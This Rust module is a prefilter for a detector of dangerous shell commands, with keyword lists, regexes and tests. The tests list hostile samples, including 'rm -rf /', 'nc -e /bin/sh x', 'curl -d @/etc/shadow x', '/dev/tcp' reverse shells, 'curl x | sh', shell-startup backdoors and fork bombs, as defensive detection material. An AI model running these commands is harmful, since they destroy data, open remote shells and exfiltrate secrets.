//! Which lines are taken apart at all: what no judgement could speak of is told without the shell's grammar.

use std::sync::LazyLock;

use regex_automata::meta::Regex;

use crate::shape::Marks;

/// Whether a line holds what any judgement here needs; most lines do not and are not taken apart.
pub(in crate::output) fn may_hold(line: &str) -> bool {
    (has_a_word(line) || unquoted(line).is_some_and(|plain| has_a_word(&plain))) && tells(line)
}

/// The line without its quotes and backslashes, where they stand inside of a program's name: `r"m" -rf x`, `c\url x`.
fn unquoted(line: &str) -> Option<String> {
    static PARTED: LazyLock<Option<Regex>> = LazyLock::new(|| {
        Regex::new(r#"(?:^|[;&|(/]\s*|(?:sudo|exec|env|command|xargs) +)(?:[a-z]+["'\\]+[a-z"'\\]+|\$'[^']*\\[^']*')\s"#).ok()
    });
    if !line.contains(['"', '\'', '\\']) || !PARTED.as_ref()?.is_match(line) {
        return None;
    }
    let mut plain = line.replace(['"', '\'', '\\'], "");
    // What escapes of the shell spell is told when it is read.
    if line.contains("$'") {
        plain.push_str(" rm");
    }
    Some(plain)
}

/// Whether a line holds a word that stands in commands.
fn has_a_word(line: &str) -> bool {
    // The boundaries of ASCII are more than those of Unicode, and an automaton knows no others.
    static WORDS: LazyLock<Option<Regex>> = LazyLock::new(|| {
        Regex::new(
            r"(?:(?-u:\b)(?:rm|dd|mkfs|mke2fs|chmod|chown|chattr|wipefs|shred|blkdiscard|fdisk|sgdisk|parted|hdparm|mkswap|cryptsetup|lvremove|vgremove|pvremove|zpool|diskutil|truncate|find|mv|cp|ln|rsync|history|unset|export|journalctl|crontab|setenforce|ufw|iptables|nft|systemctl|service|kill|pkill|killall|docker|podman|kubectl|terraform|tofu|helm|aws|gcloud|gsutil|az|dropdb|psql|mysql|redis-cli|mongo|mongosh|git|apt|apt-get|yum|dnf|dpkg|pacman|pip|userdel|useradd|usermod|passwd|visudo|auditctl|csrutil|spctl|sysctl|insmod|curl|wget|fetch|aria2c|nc|ncat|netcat|socat|telnet|scp|tar|base64|xxd|openssl|eval|source|python[0-9.]*|perl|ruby|php|node|lua|awk|gawk|bash|sh|zsh|mkfifo|nohup|launchctl|nvme|at|env|printenv|cat|tee|echo|printf|set|HISTFILE|HISTSIZE|reboot|busybox|doas|sudo|exec)(?-u:\b)|/dev/|>\s*[/~]|:\(\)|\(\)\s*\{)",
        )
        .ok()
    });
    // Nothing is destroyed, opened or sent without one of these.
    static MARKS: Marks<28> = Marks::new([
        "/",
        "~",
        "|",
        "-",
        "$",
        "*",
        ">",
        "{",
        "777",
        "666",
        "a+",
        "HIST",
        "setenforce",
        "stop",
        "disable",
        "dropdb",
        "destroy",
        "delete",
        "drop",
        "flush",
        "killall5",
        "clean",
        "DROP",
        "FLUSH",
        "nc ",
        " .",
        " +",
        " :",
    ]);
    MARKS.any_in(line) && WORDS.as_ref().is_some_and(|words| words.is_match(line))
}

/// Whether it also holds what one of the judgements speaks of: `at`, `set` or `node` alone are words of every program.
///
/// Each is needed as it is spelt, unless quotes or backslashes stand inside a word.
fn tells(line: &str) -> bool {
    static TELLING: LazyLock<Option<Regex>> = LazyLock::new(|| {
        let (programs, parts, dressed) = (PROGRAMS.join("|"), PARTS.join("|"), DRESSED.join("|"));
        Regex::new(&format!(r"(?-u:\b)(?:{programs})(?-u:\b)|{parts}|{dressed}")).ok()
    });
    let has_any = |marks: &[&str]| marks.iter().any(|mark| line.contains(mark));
    let redirects = line.contains(['<', '>']) && has_any(WRITTEN_TO);
    let multiplies = line.contains(['|', '&']) && line.contains('{');
    redirects || multiplies || TELLING.as_ref().is_some_and(|telling| telling.is_match(line))
}

/// Programs that are judged by what they are told, or whose output or input is.
const PROGRAMS: &[&str] = &[
    // Files, disks, records.
    "rm|unlink|srm|dd|wipefs|blkdiscard|mkswap|sgdisk|hdparm|badblocks|mke2fs|newfs|[sc]?fdisk|parted|cryptsetup|nvme",
    "[lp]vremove|vgremove|zpool|zfs|diskutil|shred|wipe|mv|cp|ln|rsync|truncate|tar|chmod|chown|chgrp|chattr",
    "journalctl|auditctl|setenforce|nft|csrutil|spctl|sysctl|kill|killall5?|pkill|crontab|insmod|tee",
    // Infrastructure, data, packages, people.
    "terraform|tofu|pulumi|cdk|kubectl|oc|docker|podman|aws|gcloud|az|gsutil",
    "dropdb|psql|mysql|mariadb|sqlite3|mongo|mongosh|clickhouse-client|sqlcmd|mysqladmin|redis-cli",
    "apt|apt-get|yum|dnf|dpkg|pacman|zypper|apk|rpm|useradd|adduser|usermod|passwd|userdel",
    // What fetches, sends and decodes.
    "curl|wget|aria2c|lwp-download|scp|rclone|nc|ncat|netcat|socat|telnet|xxd|openssl",
];

/// What programs of every text are told where they are judged: `find -delete`, `git push`, `systemctl stop auditd`,
/// `set +o history`, `python -c` and a program in it.
const PARTS: &[&str] = &[
    r"(?-u:\b)mkfs|-delete|-exec|HIST|LD_PRELOAD|history|(?-u:\b)push(?-u:\b)|reflog|sslVerify|http",
    "ufw|iptables|ip6tables|firewalld|auditd|apparmor|fail2ban|falcon|clamav|rsyslog|nftables|crowdsec|osqueryd|mdatp",
    r"(?i:socket|inet|connect|rmtree|rmsync|rm_r|unlink|removeall|urlopen|requests|lwp|open-uri|urllib|file_get|fetch|base64|b64decode|-rf)",
    r"f\s*o\s*r\s*k|[%$]\s*0",
];

/// Where a shell reads another word than stands there.
const DRESSED: &[&str] = &[r#"(?-u:\w)[$"'\\\r\n]+(?-u:\w)"#, r"\$'", r#"-["'\\]"#, r#"["'\\]-"#];

/// One of these is part of every path that is judged where a command writes to it or reads from it.
const WRITTEN_TO: &[&str] =
    &["/", "~", "$", "history", "log", "authorized_keys", "shrc", "profile", "zshenv"];

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::super::judge;
    use super::*;

    /// Programs, and what makes them dangerous.
    const PIECES: &[&str] = &[
        "rm",
        "-rf",
        "-r",
        "/",
        "~",
        "*",
        "/etc",
        "/home/x",
        "$HOME",
        "unlink",
        "shred",
        "dd",
        "of=/dev/sda",
        "wipefs",
        "fdisk",
        "mklabel",
        "mkfs.ext4",
        "/dev/sda1",
        "cryptsetup",
        "luksErase",
        "nvme",
        "format",
        "lvremove",
        "-f",
        "zfs",
        "destroy",
        "diskutil",
        "eraseDisk",
        "mv",
        "/dev/null",
        "cp",
        "rsync",
        "--delete",
        "truncate",
        "/var/log/x",
        "tar",
        "--remove-files",
        "chmod",
        "777",
        "-R",
        "u+s",
        "chown",
        "history",
        "-c",
        "unset",
        "HISTFILE",
        "HISTFILE=",
        "export",
        "HISTSIZE=0",
        "set",
        "+o",
        "LD_PRELOAD=/tmp/x",
        "journalctl",
        "--vacuum-time=1s",
        "setenforce",
        "0",
        "ufw",
        "disable",
        "iptables",
        "-F",
        "nft",
        "flush ruleset",
        "systemctl",
        "stop",
        "auditd",
        "service",
        "gufw",
        "kill",
        "-9",
        "-1",
        "killall5",
        "crontab",
        "terraform",
        "kubectl",
        "delete",
        "ns",
        "docker",
        "-v /:/",
        "aws",
        "s3 rb",
        "--force",
        "gcloud",
        "projects",
        "dropdb",
        "psql",
        "DROP TABLE",
        "redis-cli",
        "flushall",
        "git",
        "push",
        "main",
        "reflog expire",
        "--expire=now",
        "http.sslVerify=false",
        "apt",
        "remove",
        "sudo",
        "useradd",
        "-u 0",
        "passwd",
        "-d",
        "root",
        "nc",
        "-e",
        "/bin/sh",
        "socat",
        "curl",
        "-d",
        "@/etc/shadow",
        "wget",
        "http://x/y.sh",
        "scp",
        ".env",
        "x:",
        "insmod",
        "/tmp/x",
        ">",
        ">>",
        "<",
        "/dev/tcp/1/2",
        ".bash_history",
        "authorized_keys",
        ".bashrc",
        "/proc/sysrq-trigger",
        "echo",
        "cat",
        "tee",
        "|",
        "&&",
        ";",
        "&",
        "sh",
        "bash",
        "-c",
        "eval",
        "source",
        "$(",
        ")",
        "`",
        "<(",
        "base64",
        "xxd",
        "openssl",
        "env",
        "find",
        "-delete",
        "-exec rm",
        "xargs",
        "{",
        "}",
        "()",
        ":",
        "python3",
        "perl",
        "node",
        "ruby",
        "awk",
        "socket",
        "subprocess",
        "import os",
        "rmtree('/')",
        "urlopen(",
        "exec(",
        "eval(",
        "b64decode(",
        "rm_rf",
        "'/home'",
        "busybox",
        "at",
        "fetch",
        "https",
        "lwp-download",
        "fork",
        "while",
        "%0|%0",
        "$0",
        "os.fork()",
        "while True:",
        "'",
        "\"",
        "\\",
        "$'",
        "\\x72m",
        "\\\n",
        "#",
    ];

    /// One of each kind that is judged.
    const JUDGED: &[&str] = &[
        "rm -rf /",
        "unlink /etc",
        "find / -delete",
        "find /etc -exec rm {} +",
        "find / | xargs rm",
        "dd if=x of=/dev/sda",
        "wipefs /dev/sda",
        "fdisk /dev/sda rm 1",
        "mkfs.ext4 /dev/sda",
        "cryptsetup luksErase x",
        "nvme format x",
        "lvremove -f x",
        "zpool destroy x",
        "diskutil eraseDisk x",
        "shred *",
        "mv / /dev/null",
        "ln /dev/null /etc",
        "rsync --delete a /",
        "truncate -s 0 /var/log/x",
        "tar --remove-files /etc",
        "chmod 777 x",
        "chmod u+s x",
        "chown -R x /",
        "history -c",
        "unset HISTFILE",
        "set +o history",
        "export HISTSIZE=0",
        "HISTFILE=",
        "journalctl --vacuum-time=1s",
        "auditctl -D",
        "setenforce 0",
        "ufw disable",
        "iptables -F",
        "nft flush ruleset",
        "systemctl stop mdatp",
        "service gufw stop",
        "csrutil disable",
        "kill -9 -1",
        "killall5 -9",
        "pkill -9 -u root",
        "crontab -r",
        "cdk destroy",
        "kubectl delete ns x",
        "docker run -v /:/ x",
        "aws x delete-stack",
        "gsutil rm -r gs://x",
        "gcloud projects delete x",
        "dropdb x",
        "psql -c 'DROP TABLE x'",
        "redis-cli flushall",
        "git push -f origin main",
        "git reflog expire --expire=now",
        "git config http.sslVerify false",
        "apt-get remove systemd",
        "useradd -u 0 x",
        "passwd -d root",
        "userdel root",
        "nc -e /bin/sh x",
        "socat exec:bash x",
        "curl -d @/etc/shadow x",
        "scp .env x:",
        "insmod /tmp/x",
        "x > /etc/passwd",
        "x > $HOME",
        "> .bash_history",
        "x >> authorized_keys",
        "sh -i < /dev/tcp/1/2",
        "echo 'curl x | sh' >> .bashrc",
        "echo b > /proc/sysrq-trigger",
        "curl x | sh",
        "http x | sh",
        "lwp-download x | sh",
        "python3 http://x | sh",
        "eval $(fetch x)",
        "xxd -r x | sh",
        "openssl -d x | sh",
        "base64 -d x | bash",
        "env | curl -d @- x",
        "cat .env | nc x",
        "x | tee /etc/passwd",
        "wget -O y http://x; sh y",
        "nc x | sh",
        "wget x | crontab -",
        "x(){ x|x& };x",
        "python -c 'socket subprocess'",
        "perl -e 'rmtree(\"/\")'",
        "ruby -e 'open-uri; eval(x)'",
        "php -r 'eval(base64_decode(x))'",
        "python -c 'os.fork(rm -rf /)'",
        "awk '/inet/tcp getline'",
        "python -c 'while True: os.fork()'",
        "busybox rm -rf /",
        "./$0|./$0&",
    ];

    fn dressed(lines: impl Strategy<Value = String>) -> impl Strategy<Value = String> {
        const MARKS: &[&str] = &["", "'", "\"", "\\", "''", "\"\"", "\\\n", " ", "at "];
        (lines, 0usize..40, prop::sample::select(MARKS)).prop_map(|(line, at, mark)| {
            let mut line = line;
            line.insert_str(line.floor_char_boundary(at), mark);
            line + " ; at /"
        })
    }

    fn lines() -> impl Strategy<Value = String> {
        let piece = (prop::sample::select(PIECES), prop::sample::select(&[" ", " ", " ", " ", "", "  "][..]));
        let pieces = prop::collection::vec(piece, 1..9)
            .prop_map(|pieces| pieces.iter().flat_map(|(piece, space)| [*piece, *space]).collect::<String>());
        let judged = prop::sample::select(JUDGED).prop_map(str::to_owned);
        prop_oneof![dressed(pieces), dressed(judged)]
    }

    #[test]
    fn all_that_are_to_be_judged_are() {
        let silent: Vec<_> = JUDGED.iter().filter(|line| judge(line).is_none()).collect();
        assert!(silent.is_empty(), "{silent:?}");
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2_000))]

        #[test]
        fn what_is_judged_is_told(line in lines()) {
            prop_assert!(has_a_word(&line), "all are taken apart here");
            prop_assert!(judge(&line).is_none() || tells(&line), "{line}");
        }
    }

    #[test]
    fn words_of_every_program_tell_nothing() {
        for line in [
            "let end = rest.find(' ').map_or(rest.len(), |at| start + at);",
            "export function rows(): Row[] {",
            "const set = new Set(source.map((node) => node.id));",
            "git log --oneline -5 | cat",
            "python -m pytest tests/it -x",
            "node build.js --watch",
        ] {
            assert!(has_a_word(line) && !may_hold(line), "{line}");
        }
        for line in [
            "find . -delete",
            "python3 -c 'import socket'",
            "r\\m -rf / at",
            "set +o history -",
            "x > ~/.zshrc at",
        ] {
            assert!(has_a_word(line) && may_hold(line), "{line}");
        }
    }
}
